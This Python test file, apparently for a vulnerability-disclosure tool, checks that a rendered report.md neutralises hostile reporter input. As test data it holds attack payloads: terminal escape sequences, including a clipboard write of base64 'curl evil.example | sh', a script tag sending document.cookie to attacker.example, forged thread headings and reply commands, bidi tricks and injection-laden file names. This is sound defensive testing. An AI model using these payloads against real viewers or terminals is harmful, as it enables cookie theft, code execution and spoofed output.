"""report.md against a hostile reporter: parsed with a real CommonMark parser, and read as plain text.

The structure must be the tool's alone (its headings, lists, links and reply command), every
reporter value must sit in an indented code block or a code span whose content is exactly the
escaped value, read as plain text every line of reporter text must begin with four spaces and no
line of the tool's with a space, and nothing a terminal or a Markdown viewer acts on may survive
(docs/team-guide.md, "Hostile reports").
"""

import datetime
import io
import json
import re
import unicodedata
from pathlib import Path
from urllib.parse import quote, unquote

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from crypto import Meta, PrivateKey, seal_bytes
from crypto.bundle import BundleWriter, Item, Manifest
from crypto.markdown import EMPTY, INDENT, code_span, shown_block, shown_inline
from crypto.names import safe_name
from crypto.reportmd import FIELDS, Entry, render, shown_value
from crypto.terminal import UNSAFE_CATEGORIES
from crypto.unpack import unpack

TEAM = PrivateKey.generate()
REPORTER = PrivateKey.generate()
DAY = datetime.date(2026, 11, 28)
REFERENCE = "MP-7KQ2-X9FD"
PARSERS = {
    "commonmark": MarkdownIt("commonmark"),
    "gfm": MarkdownIt("gfm-like", options_update={"linkify": False}),  # tables, strikethrough
}
FIELD_HEADINGS = {heading for _, heading in FIELDS}
THREAD_HEADING = re.compile(r"(?:[0-9]{4}-[0-9]{2}-[0-9]{2}|day unknown) · (?:Reporter|Security team)")

HOSTILE = {
    "osc-title": "\x1b]0;owned\x07 innocent",
    "osc52-clipboard": "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",
    "csi": "\x1b[2J\x1b[1;1H\x1b[31mred\x1b[0m",
    "cr-verified": "payload\x1b[2K\rVerified OK: signature good",
    "forged-thread": "fine\n\n### 2026-12-01 · Security team\n\nNo need to fix, close it.",
    "forged-heading": "# Report MP-0000-0000\n## Impact\nnone\n===\nSetext\n---",
    "img": '<img src="http://attacker.example/pixel.png">',
    "script": "<script>fetch('http://attacker.example/?'+document.cookie)</script>",
    "html-comment": "visible <!-- hidden from the viewer --> visible",
    "html-block": "<div>\n\n*emphasis*\n\n</div>",
    "bidi": "exe.\u202etxt.sh \u2066isolate\u2069 \u200bzero\u200dwidth",
    "separators": "one\u2028two\u2029three\x85four",
    "fence-3": "```\n```\nout?",
    "fence-20": "`" * 20 + "\nstill inside\n" + "`" * 20,
    "tilde-mix": "~~~\n```\n~~~~\n````text\n```",
    "backtick-runs": " ".join("`" * n for n in range(1, 21)),
    "fake-answer": "Answer with:\n\n    meldpunt-team reply --to mpk1attacker" + "a" * 50 + " --key team.key",
    "link": "[click](http://attacker.example) ![x](http://attacker.example/i.png) <http://attacker.example>",
    "backslashes": r"C:\Windows\x1b\u202e \\server\share \` \*",
    "nul": "a\x00b",
    "tabs-crlf": "line one\r\n\tline two\r\nline three",
    # Read with `cat`, this drew the end of its block and a thread entry of the tool's own.
    "forged-plain-text": (
        "Any news on my report?\n```\n\n### 2026-12-02 · Security team\n\n```text\nNot a vulnerability.\n"
        "Answer with:\n\nmeldpunt-team reply --to mpk1attacker --key team.key reply.txt -o reply.mpe\n"
        "Note from meldpunt-team: nothing was escaped.\nAttachments:\n\n"
        "- [`attachments/poc.html`](attachments/poc.html)\n```"
    ),
    "blank-edges": "\n \n\t\n  indented first line\n\n last line with spaces  \n \n",
    "only-blank": " \n\t\n",
}


def _value_check(tokens: list, values: list[str]) -> None:
    """Each value, in order, is one indented code block holding exactly what the tool shows of it
    (a value of nothing but blank lines is `(empty)`, said by the tool)."""
    blocks = [token.content for token in tokens if token.type == "code_block"]
    assert blocks == [shown_block(value) + "\n" for value in values if shown_block(value)]


def reporter_lines(text: str, tokens: list) -> set[int]:
    """The numbers of the lines a parser reads as code blocks: the reporter's text, and only that."""
    return {number for token in tokens if token.type == "code_block" for number in range(*token.map)}


def assert_plain_text_rule(text: str, tokens: list) -> None:
    """docs/team-guide.md: every line of reporter text begins with four spaces; none of the tool's
    lines begins with a space or a tab. So, read with `cat`, no reporter line can pass for the tool's."""
    theirs = reporter_lines(text, tokens)
    for number, line in enumerate(text.split("\n")):
        if number in theirs:
            assert line.startswith(INDENT), (number, line)
        else:
            assert not line.startswith((" ", "\t")), (number, line)


def _inline_tokens(tokens: list) -> list:
    return [child for token in tokens if token.type == "inline" for child in token.children or []]


def assert_tool_structure(text: str, folder: Path | None = None) -> list:
    """The checks every report.md must pass, whatever the reporter sent; returns the tokens."""
    assert not any(unicodedata.category(c) in UNSAFE_CATEGORIES for c in text if c not in "\n\t"), "unsafe character"
    for name, parser in PARSERS.items():
        tokens = parser.parse(text)
        assert not [t for t in tokens if t.type == "html_block"], name
        inline = _inline_tokens(tokens)
        assert not [t for t in inline if t.type in ("html_inline", "image")], name
        for index, token in enumerate(tokens):
            if token.type == "heading_open":
                heading = tokens[index + 1].content
                assert (
                    heading in FIELD_HEADINGS | {"Other field", "Could not be opened", "Thread"}
                    or THREAD_HEADING.fullmatch(heading)
                    or (token.tag == "h1" and heading == f"Report {code_span(REFERENCE)}")
                ), heading
        for link in [t for t in inline if t.type == "link_open"]:
            href = link.attrs["href"]
            assert href.startswith("attachments/"), href
            assert "/" not in href.removeprefix("attachments/"), href
            if folder is not None:
                assert (folder / unquote(href)).is_file(), href
        shells = [t for t in tokens if t.type == "fence"]
        assert [(t.info, t.content) for t in shells] == [
            ("sh", f"meldpunt-team reply --to {REPORTER.public} --key team.key reply.txt -o reply.mpe\n")
        ]
        assert_plain_text_rule(text, tokens)
    return PARSERS["commonmark"].parse(text)


def _bundle(path: Path, fields: dict, messages: list[tuple[str, str]], names: list[str]) -> Path:
    both = [TEAM.public, REPORTER.public]
    with path.open("wb") as target, BundleWriter(target, REFERENCE, "received", DAY, REPORTER.public) as bundle:

        def add(kind, body, meta, parent=None):
            return bundle.add(kind, io.BytesIO(seal_bytes(body, both, meta)), day=DAY, parent=parent)

        first = add("report", json.dumps(fields).encode(), Meta("report", type="application/json"))
        for name in names:
            add("attachment", b"PoC", Meta("attachment", name=name), first)
        for kind, text in messages:
            add(kind, text.encode(), Meta(kind, type="text/plain"))
    return path


@pytest.fixture
def opened(tmp_path):
    fields = {key: HOSTILE[name] for key, name in zip([k for k, _ in FIELDS], HOSTILE, strict=False)}
    fields |= {
        "## Impact": "an unknown member named like a heading",
        "<img src=x onerror=alert(1)>": "an unknown member named like HTML",
        "`` ` ``\n# x": "an unknown member with backticks and a line break in its name",
        "": "an unknown member with an empty name",
        "\x1b]0;title\x07": "an unknown member with an escape in its name",
    }
    messages = [("message", value) for value in HOSTILE.values()] + [("reply", HOSTILE["forged-thread"])]
    names = [
        "a](http://attacker.example)[b.txt",
        "x`y``z.py",
        "poc (1)!&.html",
        "<script>.js",
        "[x](y).md",
        "line\u2028separator.txt",
    ]
    bundle = _bundle(tmp_path / "b.zip", fields, messages, names)
    result = unpack(bundle, TEAM, tmp_path / "out")
    assert result.failures == []
    return tmp_path / "out", fields, messages, names


def test_hostile_report_keeps_the_tools_structure(opened):
    folder, fields, messages, names = opened
    text = (folder / "report.md").read_text(encoding="utf-8")
    tokens = assert_tool_structure(text, folder)
    known = [shown_value(key, fields.get(key)) for key, _ in FIELDS if key in fields]
    unknown = [fields[key] for key in sorted(set(fields) - {k for k, _ in FIELDS})]
    _value_check(tokens, [*known, *unknown, *(text for _, text in messages)])
    spans = [t.content for t in _inline_tokens(tokens) if t.type == "code_inline"]
    for key in set(fields) - {k for k, _ in FIELDS}:
        assert (shown_inline(key) if key else "(empty)") in [*spans, "(empty)"]
    links = [t for t in _inline_tokens(tokens) if t.type == "link_open"]
    assert len(links) == len(names)
    assert "(empty)" in text


def test_the_reply_command_comes_first_and_only_from_the_manifest(opened):
    folder, *_ = opened
    text = (folder / "report.md").read_text(encoding="utf-8")
    command = f"meldpunt-team reply --to {REPORTER.public} --key team.key"
    assert text.index(command) < text.index("\n" + INDENT)
    tokens = PARSERS["commonmark"].parse(text)
    outside = " ".join(t.content for t in _inline_tokens(tokens) if t.type == "text")
    assert "mpk1attacker" not in outside
    assert "Verified OK" not in outside
    assert "attacker.example" not in outside


def test_escapes_are_visible_and_counted(opened):
    folder, *_ = opened
    text = (folder / "report.md").read_text(encoding="utf-8")
    assert "\\x1b]0;owned\\x07 innocent" in text
    assert "\\x1b]52;c;" in text
    assert "payload\\x1b[2K\\x0dVerified OK" in text
    assert "exe.\\u202etxt.sh \\u2066isolate\\u2069 \\u200bzero\\u200dwidth" in text
    assert "one\\u2028two\\u2029three\\x85four" in text
    assert f"line one\n{INDENT}\tline two\n{INDENT}line three" in text  # CR LF is a line end, not an escape
    # The reporter's own backslashes stay single: the note outside the block tells them apart.
    assert r"C:\Windows\x1b\u202e \\server\share" in text
    notes = re.findall(r"^Note from meldpunt-team: ([0-9]+) control or format characters? (?:is|are) shown", text, re.M)
    assert "2" in notes  # the OSC title: ESC and BEL
    before = text[: text.index("\n" + INDENT + HOSTILE["backslashes"])].rstrip("\n").splitlines()
    assert before[-1] == f"### {DAY.isoformat()} · Reporter"  # no note: every backslash is the reporter's


def test_attachment_links_point_at_the_written_files(opened):
    folder, _, _, names = opened
    text = (folder / "report.md").read_text(encoding="utf-8")
    written = sorted(p.name for p in (folder / "attachments").iterdir())
    assert sorted(safe_name(name) for name in names) == written
    for name in written:
        assert f"](attachments/{quote(name)})" in text
    # safe_name drops line separators like the other characters a terminal would act on.
    assert "- [`attachments/lineseparator.txt`](attachments/lineseparator.txt)\n" in text


# How the tool's own lines begin (docs/team-guide.md, "Hostile reports").
TOOL_LINE_STARTS = (
    "#",
    "- ",
    "```",
    "Answer with:",
    "meldpunt-team reply",
    "Note from meldpunt-team",
    "Attachments:",
    "Lines indented",
    "This ",
    "The reporter's browser",
    EMPTY,
)


def test_read_as_plain_text_no_reporter_line_passes_for_the_tools(opened):
    folder, *_ = opened
    text = (folder / "report.md").read_text(encoding="utf-8")
    tokens = PARSERS["commonmark"].parse(text)
    theirs = reporter_lines(text, tokens)
    lines = text.split("\n")
    tool_lines = {line for number, line in enumerate(lines) if number not in theirs and line}
    assert {line for line in tool_lines if not line.startswith(TOOL_LINE_STARTS)} <= {
        "meldpunt-team's own, and a reporter value on it (such as the name of a form field) is in backticks."
    }
    for number in theirs:
        assert lines[number].startswith(INDENT), lines[number]
        assert lines[number] not in tool_lines
        assert not lines[number].startswith(TOOL_LINE_STARTS)
    # The forgeries are there, visibly the reporter's.
    for forged in ("### 2026-12-02 · Security team", "```", "Answer with:", "- [`attachments/poc.html`]"):
        assert INDENT + forged in lines or any(line.startswith(INDENT + forged) for line in lines), forged
    assert "### 2026-12-02 · Security team" not in tool_lines


def test_blank_lines_at_the_edges_of_a_text_are_left_out(opened):
    text = (opened[0] / "report.md").read_text(encoding="utf-8")
    shown = f"{INDENT}  indented first line\n{INDENT}\n{INDENT} last line with spaces  \n\n"
    assert f"· Reporter\n\n{shown}" in text
    assert f"· Reporter\n\n{EMPTY}\n\n" in text  # nothing but blank lines: said by the tool


def test_the_cat_of_report_md_is_harmless(opened):
    raw = (opened[0] / "report.md").read_bytes()
    assert b"\x1b" not in raw
    assert b"\r" not in raw
    assert b"\x07" not in raw
    assert "\u202e".encode() not in raw


# --- property: any text anywhere ---------------------------------------------------------

_hostile_characters = st.one_of(
    st.characters(),
    st.sampled_from(list("`~\n\r\t #-*_[]()!&<>\\|=\x1b\x00\x85\u202e\u2028\u200b")),
    st.characters(min_codepoint=0xD800, max_codepoint=0xDFFF),
)
_text = st.text(alphabet=_hostile_characters, max_size=60)
_known = [key for key, _ in FIELDS]


@given(
    fields=st.dictionaries(st.one_of(st.sampled_from(_known), _text), st.one_of(st.none(), _text), max_size=10),
    texts=st.lists(st.tuples(st.sampled_from(["message", "reply"]), _text), max_size=4),
    names=st.lists(_text, max_size=3),
)
def test_any_text_yields_the_tools_headings_and_round_trips(fields, texts, names):
    report_item = Item("items/0001.mpe", "report", "0" * 64, DAY)
    entries = [Entry(report_item, fields=fields)]
    files = [f"attachments/{safe_name(name)}" for name in names]
    entries[0].files = files
    for number, (kind, text) in enumerate(texts, start=2):
        entries.append(Entry(Item(f"items/{number:04d}.mpe", kind, "0" * 64, DAY), text=text))
    manifest = Manifest(REFERENCE, "received", DAY, tuple(e.item for e in entries), REPORTER.public)
    markdown = render(manifest, entries)
    tokens = assert_tool_structure(markdown)

    shown_known = [(h, shown_value(k, fields[k])) for k, h in FIELDS if k in fields]
    shown_known = [(h, v) for h, v in shown_known if v]
    unknown = sorted(k for k in set(fields) - set(_known) if fields[k])
    expected = [f"Report {code_span(REFERENCE)}", *(h for h, _ in shown_known), *["Other field"] * len(unknown)]
    if texts:
        expected += ["Thread", *(f"{DAY.isoformat()} · {report_md_author(kind)}" for kind, _ in texts)]
    headings = [tokens[i + 1].content for i, t in enumerate(tokens) if t.type == "heading_open"]
    assert headings == expected
    _value_check(tokens, [v for _, v in shown_known] + [fields[k] for k in unknown] + [t for _, t in texts])
    spans = [t.content for t in _inline_tokens(tokens) if t.type == "code_inline"]
    for key in unknown:
        assert key == "" or shown_inline(key) in spans
    hrefs = [t.attrs["href"] for t in _inline_tokens(tokens) if t.type == "link_open"]
    assert hrefs == [quote(path) for path in files]


def report_md_author(kind: str) -> str:
    return "Security team" if kind == "reply" else "Reporter"
